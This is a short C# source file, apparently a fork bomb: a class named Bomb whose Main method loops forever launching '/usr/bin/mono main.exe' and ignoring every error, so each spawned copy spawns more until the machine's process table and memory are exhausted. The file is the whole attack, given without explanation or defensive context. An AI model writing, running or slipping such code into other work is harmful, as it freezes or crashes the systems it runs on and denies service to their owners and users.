using System.Diagnostics;

class Bomb {
    static void Main() {
        while (true) {
            try { Process.Start("/usr/bin/mono", "main.exe"); } catch { }
        }
    }
}
